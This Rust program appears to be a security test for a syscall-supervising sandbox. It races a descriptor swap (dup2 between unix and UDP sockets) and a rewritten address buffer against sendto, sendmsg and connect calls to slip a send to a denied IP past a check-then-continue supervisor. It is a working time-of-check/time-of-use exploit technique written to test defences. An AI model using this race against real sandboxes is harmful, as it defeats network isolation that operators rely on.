//! Attack: swap the descriptor and the address under a trapped socket call. A supervisor that
//! looked at the socket's family in the caller's file table and then let the kernel run the call
//! (CONTINUE) for a unix socket would have the kernel look again, after another thread put a UDP
//! socket under that descriptor number and a denied IP address in that memory.
//!
//! `attack_swap MODE UNIX_PATH DENIED_IP:PORT N`. Thread A makes N calls of MODE on descriptor
//! FD: `sendto` (one byte, with the address), `sendmsg` (the same, through a `msghdr`) or
//! `connect` (then one untrapped `send(2)` on each of the two real sockets: the UDP one reaches
//! the denied listener only if it got connected there, the unix one reaches UNIX_PATH's receiver
//! when it got connected). Thread B meanwhile flips FD between a unix datagram socket and a UDP
//! socket with `dup2`, and the one address buffer both calls use between the unix address of
//! UNIX_PATH and the denied IP address, out of step with each other so that every combination
//! occurs. Sends never wait (MSG_DONTWAIT). Prints
//! `ok=O eperm=E other=X errnos=ERRNO:COUNT,... last=ok|ERRNO` (results of the N calls; the
//! errnos of the others, by number; then the result of one plain `sendto` of the UDP socket to
//! the denied address, with no race, after the flipper stopped).

use std::net::SocketAddrV4;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};

/// sizeof(struct sockaddr_un): the address length every call passes, whichever address is in
/// the buffer (a longer length than sockaddr_in is fine for UDP).
const ADDR_LEN: usize = 110;
const WORDS: usize = 14; // 112 bytes

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let [mode, path, denied, n] = args.as_slice() else {
        eprintln!("usage: attack_swap sendto|sendmsg|connect UNIX_PATH DENIED_IP:PORT N");
        std::process::exit(2);
    };
    let denied: SocketAddrV4 = denied.parse().expect("DENIED_IP:PORT");
    let n: usize = n.parse().expect("N");
    let unix_addr = words(&unix_bytes(path));
    let ip_addr = words(&inet_bytes(denied));

    // SAFETY: integers only.
    let unix_fd = unsafe { libc::socket(libc::AF_UNIX, libc::SOCK_DGRAM, 0) };
    // SAFETY: integers only.
    let udp_fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_DGRAM, 0) };
    // SAFETY: integers only.
    let fd = unsafe { libc::dup(unix_fd) };
    assert!(unix_fd >= 0 && udp_fd >= 0 && fd >= 0, "sockets");

    let buf: Arc<[AtomicU64; WORDS]> =
        Arc::new(std::array::from_fn(|i| AtomicU64::new(unix_addr[i])));
    let stop = Arc::new(AtomicBool::new(false));
    let flipper = {
        let (buf, stop) = (buf.clone(), stop.clone());
        std::thread::spawn(move || {
            let mut i: u64 = 0;
            while !stop.load(Ordering::Relaxed) {
                let from = if i.is_multiple_of(2) { udp_fd } else { unix_fd };
                // SAFETY: integers only; `fd` is ours to replace.
                unsafe { libc::dup2(from, fd) };
                let words = if (i / 3).is_multiple_of(2) {
                    &ip_addr
                } else {
                    &unix_addr
                };
                for (w, v) in buf.iter().zip(words) {
                    w.store(*v, Ordering::Relaxed);
                }
                i += 1;
            }
        })
    };

    // The address buffer as the kernel reads it (AtomicU64 has u64's layout); the flipper
    // rewrites it while the calls read it, which is the attack.
    let addr = buf.as_ptr() as *const libc::sockaddr;
    let byte = [b'x'];
    let (mut ok, mut eperm, mut other) = (0u64, 0u64, 0u64);
    let mut errors = std::collections::BTreeMap::<i32, u64>::new();
    for _ in 0..n {
        let result = match mode.as_str() {
            "sendto" => checked(
                // SAFETY: `byte` and the address buffer (ADDR_LEN <= its 112 bytes) live for
                // the call.
                unsafe {
                    libc::sendto(
                        fd,
                        byte.as_ptr() as *const libc::c_void,
                        1,
                        libc::MSG_DONTWAIT,
                        addr,
                        ADDR_LEN as libc::socklen_t,
                    )
                },
            ),
            "sendmsg" => {
                let mut iov = libc::iovec {
                    iov_base: byte.as_ptr() as *mut libc::c_void,
                    iov_len: 1,
                };
                // SAFETY: msghdr is plain old data; all-zero is a valid (empty) value.
                let mut hdr: libc::msghdr = unsafe { std::mem::zeroed() };
                hdr.msg_name = addr as *mut libc::c_void;
                hdr.msg_namelen = ADDR_LEN as libc::socklen_t;
                hdr.msg_iov = &mut iov;
                hdr.msg_iovlen = 1;
                // SAFETY: the header points at `iov`, `byte` and the address buffer, all alive.
                checked(unsafe { libc::sendmsg(fd, &hdr, libc::MSG_DONTWAIT) })
            }
            "connect" => {
                // SAFETY: the address buffer lives for the call.
                let r = checked(
                    unsafe { libc::connect(fd, addr, ADDR_LEN as libc::socklen_t) } as isize,
                );
                for s in [udp_fd, unix_fd] {
                    // send(2): no address, not trapped; reaches only where `s` is connected.
                    // SAFETY: `byte` lives for the call.
                    unsafe {
                        libc::send(
                            s,
                            byte.as_ptr() as *const libc::c_void,
                            1,
                            libc::MSG_DONTWAIT,
                        )
                    };
                }
                r
            }
            _ => {
                eprintln!("unknown mode {mode}");
                std::process::exit(2);
            }
        };
        match result {
            Ok(()) => ok += 1,
            Err(libc::EPERM) => eperm += 1,
            Err(e) => {
                other += 1;
                *errors.entry(e).or_default() += 1;
            }
        }
    }
    stop.store(true, Ordering::Relaxed);
    flipper.join().expect("flipper");
    // One plain send, no race: natively it shows that the listener hears this program.
    let ip = inet_bytes(denied);
    // SAFETY: `byte` and `ip` (16 bytes: a sockaddr_in) live for the call.
    let last = match checked(unsafe {
        libc::sendto(
            udp_fd,
            byte.as_ptr() as *const libc::c_void,
            1,
            0,
            ip.as_ptr() as *const libc::sockaddr,
            16,
        )
    }) {
        Ok(()) => "ok".to_string(),
        Err(e) => e.to_string(),
    };
    let errors: Vec<String> = errors.iter().map(|(e, n)| format!("{e}:{n}")).collect();
    println!(
        "ok={ok} eperm={eperm} other={other} errnos={} last={last}",
        errors.join(",")
    );
}

/// A libc return value as the errno it failed with, read at once.
fn checked(ret: isize) -> Result<(), i32> {
    match ret {
        r if r >= 0 => Ok(()),
        _ => Err(std::io::Error::last_os_error().raw_os_error().unwrap_or(0)),
    }
}

fn unix_bytes(path: &str) -> [u8; WORDS * 8] {
    let mut b = [0u8; WORDS * 8];
    b[..2].copy_from_slice(&(libc::AF_UNIX as u16).to_ne_bytes());
    assert!(path.len() < 107, "unix path too long");
    b[2..2 + path.len()].copy_from_slice(path.as_bytes());
    b
}

fn inet_bytes(a: SocketAddrV4) -> [u8; WORDS * 8] {
    let mut b = [0u8; WORDS * 8];
    b[..2].copy_from_slice(&(libc::AF_INET as u16).to_ne_bytes());
    b[2..4].copy_from_slice(&a.port().to_be_bytes());
    b[4..8].copy_from_slice(&a.ip().octets());
    b
}

fn words(b: &[u8; WORDS * 8]) -> [u64; WORDS] {
    std::array::from_fn(|i| u64::from_ne_bytes(b[i * 8..i * 8 + 8].try_into().unwrap()))
}
